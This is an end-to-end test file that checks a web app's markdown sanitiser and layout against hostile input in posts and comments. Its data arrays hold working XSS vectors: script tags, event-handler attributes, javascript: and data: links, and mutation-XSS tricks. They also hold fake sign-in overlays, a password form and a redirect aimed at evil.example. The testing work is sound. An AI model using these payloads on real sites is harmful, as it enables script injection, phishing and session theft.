import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { baseUrl, gql, launch, openPage, screenshot } from './support';

const stamp = Date.now().toString(36);

// Each vector tries to set window.__xss, to open a dialog or to cover the page. Vectors that can swallow what
// follows them (unclosed math, style, noscript) come last in their body.
const OVERLAYS = [
  '**Normal** text with a [normal link](https://example.com/docs) and a [path](/ideas).',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session expired. Sign in again</div>',
  '<a href="https://evil.example/sign-in" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">Sign in to Kindling</a>',
  '<p class="k-modal k-header" id="root" style="position:absolute;top:-500px">class and id</p>',
  '<p title="<a href=x onmouseover=window.__xss=1 ">attribute text with a link in it</p>',
  '<style>body { display: none } .k-header { position: fixed; top: 90vh }</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  `averyveryverylongword${'x'.repeat(3_000)}`,
  `\`\`\`\n${'const wide = "code"; '.repeat(60)}\n\`\`\``,
  `| ${Array.from({ length: 40 }, (_, i) => `column ${i}`).join(' | ')} |\n| ${Array.from({ length: 40 }, () => '---').join(' | ')} |\n| ${Array.from({ length: 40 }, (_, i) => `cell ${i}`).join(' | ')} |`,
  ['- one', '  - two', '    - three', '      - four', '        - five', '          - six'].join('\n'),
  '# A heading posing as the page title',
].join('\n\n');

const SCRIPTS = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 1">',
  '![pixel](https://evil.example/pixel.gif)',
  '<svg onload="window.__xss = 1"><circle r="40"/></svg>',
  '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
  '<details open ontoggle="window.__xss = 1"><summary>toggle</summary></details>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<a href="javascript:window.__xss=1">javascript</a> <a href="JAVASCRIPT:alert(1)">upper</a> <a href="  javascript:alert(1)">spaces</a>',
  '<a href="jav&#x09;ascript:alert(1)">entity tab</a> <a href="&#106;avascript:alert(1)">entity</a> <a href="data:text/html,<script>alert(1)</script>">data</a>',
  '[markdown javascript](javascript:alert(1)) [markdown data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1">',
].join('\n\n');

const COMMENTS = [
  '<img src=x onerror="window.__xss = 1"> <svg><script>window.__xss = 1</script></svg> a [link](https://example.com/c)',
  '<div style="position:fixed;inset:0;background:#fff;z-index:99999">Comments are closed, sign in again</div>',
  `a${'w'.repeat(2_000)} [x](javascript:alert(1))`,
];

interface Escape {
  where: string;
  what: string;
}

/** Everything in a rendered body that is positioned, or lies outside its container or its card (scrolling boxes aside). */
async function escapes(page: Page): Promise<Escape[]> {
  return page.evaluate(() => {
    const found: { where: string; what: string }[] = [];
    const inside = (a: DOMRect, b: DOMRect) => a.left >= b.left - 1 && a.right <= b.right + 1 && a.top >= b.top - 1 && a.bottom <= b.bottom + 1;
    const describe = (el: Element) => `<${el.tagName.toLowerCase()}> ${(el.textContent ?? '').slice(0, 40)}`;
    for (const container of Array.from(document.querySelectorAll('.k-markdown'))) {
      const card = container.closest('.k-card');
      const where = container.className;
      if (!card) {
        found.push({ where, what: 'a markdown container outside any card' });
        continue;
      }
      if (!inside(container.getBoundingClientRect(), card.getBoundingClientRect())) found.push({ where, what: 'the container leaves its card' });
      // content wider than the container (clipped or not) means a long word, code or table did not wrap or scroll
      if (container.scrollWidth > container.clientWidth + 1) found.push({ where, what: `its content is ${container.scrollWidth}px wide in ${container.clientWidth}px` });
      for (const el of Array.from(container.querySelectorAll('*'))) {
        const style = getComputedStyle(el);
        if (style.position !== 'static') found.push({ where, what: `${describe(el)} is position: ${style.position}` });
        // inside a scrolling box (wide code, a wide table) the box itself is what must stay in
        let scroller = el.parentElement;
        while (scroller && scroller !== container && getComputedStyle(scroller).overflowX === 'visible') scroller = scroller.parentElement;
        if (scroller !== container) continue;
        if (!inside(el.getBoundingClientRect(), container.getBoundingClientRect())) found.push({ where, what: `${describe(el)} lies outside its container` });
      }
    }
    return found;
  });
}

/** Elements and attributes in rendered markdown that the sanitiser's allow-list does not name, and unsafe links. */
async function outsideAllowList(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const tags = ['P', 'BR', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A', 'HR', 'H3', 'H4', 'H5', 'H6', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD'];
    const attributes = ['href', 'title', 'align', 'start', 'target', 'rel'];
    const found: string[] = [];
    for (const el of Array.from(document.querySelectorAll('.k-markdown *'))) {
      if (!tags.includes(el.tagName)) found.push(`<${el.tagName.toLowerCase()}>`);
      for (const name of el.getAttributeNames()) if (!attributes.includes(name)) found.push(`<${el.tagName.toLowerCase()} ${name}>`);
      const href = el.getAttribute('href');
      if (href !== null && !/^(?:https?:|mailto:|\/(?![/\\])|$)/i.test(href.trim())) found.push(`href="${href}"`);
    }
    return found;
  });
}

/** CSP violations the live page reported: Chrome also reports markup it merely parses (DOMPurify parses the
 * unsanitised HTML into an inert document), against the document; what the CSP blocked in the page is
 * reported against the element. */
function blockedInThePage(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __cspBlocked: string[] }).__cspBlocked);
}

describe('markdown that cannot take over the page', () => {
  let browser: Browser;
  let signedIn: BrowserContext;
  let ideaUrl = '';
  let scriptsUrl = '';

  beforeAll(async () => {
    browser = await launch();
    signedIn = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-GB' });
    signedIn.setDefaultTimeout(15_000);
    const { page } = await openPage(signedIn);
    await page.goto(`${baseUrl()}/`);
    await page.getByLabel('Search people by name').fill('Sanne');
    await page.getByRole('button', { name: /^Sign in as Sanne de Vries/ }).click();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();

    const post = (title: string, body: string) =>
      gql<{ postIdea: { idea: { id: string } } }>(page, 'mutation($input: PostIdeaInput!) { postIdea(input: $input) { idea { id } } }', { input: { title, body } });
    const overlays = (await post(`Markdown overlays ${stamp}`, OVERLAYS)).postIdea.idea.id;
    const scripts = (await post(`Markdown scripts ${stamp}`, SCRIPTS)).postIdea.idea.id;
    let replyToId: string | null = null;
    for (const body of COMMENTS) {
      const answer: { comment: { comment: { id: string } } } = await gql(page, 'mutation($input: CommentInput!) { comment(input: $input) { comment { id } } }', {
        input: { ideaId: overlays, body, replyToId },
      });
      replyToId = answer.comment.comment.id;
    }
    ideaUrl = `${baseUrl()}/ideas/${encodeURIComponent(overlays)}`;
    scriptsUrl = `${baseUrl()}/ideas/${encodeURIComponent(scripts)}`;
    await page.close();
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** Opens an idea in a context of the signed-in person; records dialogs, uncaught errors and CSP reports. */
  async function open(url: string, options: { bypassCSP: boolean }) {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-GB', storageState: await signedIn.storageState(), ...options });
    context.setDefaultTimeout(15_000);
    await context.addInitScript(() => {
      const w = window as unknown as { __cspBlocked: string[] };
      w.__cspBlocked = [];
      document.addEventListener('securitypolicyviolation', (e) => {
        if (e.target instanceof Element) w.__cspBlocked.push(`${e.violatedDirective} on <${e.target.tagName.toLowerCase()}> ${e.sample}`);
      });
    });
    const { page, errors } = await openPage(context);
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(url);
    await page.locator('.k-idea__body').waitFor();
    return { context, page, errors, dialogs };
  }

  async function ranScript(page: Page): Promise<unknown> {
    return page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
  }

  it('runs no script from a body or a comment, even with the Content-Security-Policy switched off', async () => {
    for (const url of [ideaUrl, scriptsUrl]) {
      const { context, page, errors, dialogs } = await open(url, { bypassCSP: true });
      try {
        if (url === ideaUrl) await page.locator('.k-comment__body').nth(COMMENTS.length - 1).waitFor();
        // give onerror, onload and ontoggle their chance: every image and frame of the page has settled
        await page.waitForLoadState('load');
        // and onmouseover, onfocus and the like too: every element of every body gets those events
        await page.locator('.k-markdown *').evaluateAll((els) => {
          for (const el of els) for (const type of ['mouseover', 'mouseenter', 'focus', 'animationstart']) el.dispatchEvent(new Event(type, { bubbles: true }));
        });
        await expect(ranScript(page)).resolves.toBeUndefined();
        expect(dialogs).toEqual([]);
        expect(errors).toEqual([]);
        await expect(outsideAllowList(page)).resolves.toEqual([]);
      } finally {
        await context.close();
      }
    }
  });

  it('leaves nothing outside its card, keeps the page its own and opens links safely', async () => {
    const { context, page, errors, dialogs } = await open(ideaUrl, { bypassCSP: false });
    try {
      await page.locator('.k-comment__body').nth(COMMENTS.length - 1).waitFor();
      await page.waitForLoadState('load');
      await screenshot(page, 'markdown-xss-idea');
      expect(await escapes(page)).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1280);

      // the page's own title and header are what is on top where they are
      for (const selector of ['h1#idea-title', '.k-header']) {
        const onTop = await page.locator(selector).evaluate((el) => {
          const box = el.getBoundingClientRect();
          const hit = document.elementFromPoint(box.left + Math.min(box.width / 2, 40), box.top + box.height / 2);
          return !!hit && el.contains(hit);
        });
        expect({ selector, onTop }).toEqual({ selector, onTop: true });
      }
      expect(await page.locator('.k-idea__body h1, .k-idea__body h2').count()).toBe(0);

      const links = await page.locator('.k-markdown a').evaluateAll((els) => els.map((a) => ({ text: a.textContent, href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') })));
      expect(links).toEqual(
        expect.arrayContaining([
          { text: 'normal link', href: 'https://example.com/docs', target: '_blank', rel: 'noopener noreferrer' },
          { text: 'path', href: '/ideas', target: '_blank', rel: 'noopener noreferrer' },
          { text: 'link', href: 'https://example.com/c', target: '_blank', rel: 'noopener noreferrer' },
        ]),
      );
      for (const link of links) {
        if (link.href !== null) expect(link).toEqual({ ...link, target: '_blank', rel: 'noopener noreferrer' });
      }
      // the ordinary markdown still looks like markdown
      await page.locator('.k-idea__body strong', { hasText: 'Normal' }).waitFor();
      await expect(page.locator('.k-idea__body li').count()).resolves.toBe(6);

      await expect(blockedInThePage(page)).resolves.toEqual([]);
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('shows the scripts corpus as harmless text in its card, with the Content-Security-Policy never needed', async () => {
    const { context, page, errors } = await open(scriptsUrl, { bypassCSP: false });
    try {
      await page.waitForLoadState('load');
      await screenshot(page, 'markdown-xss-scripts');
      expect(await escapes(page)).toEqual([]);
      await expect(ranScript(page)).resolves.toBeUndefined();
      await expect(blockedInThePage(page)).resolves.toEqual([]);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
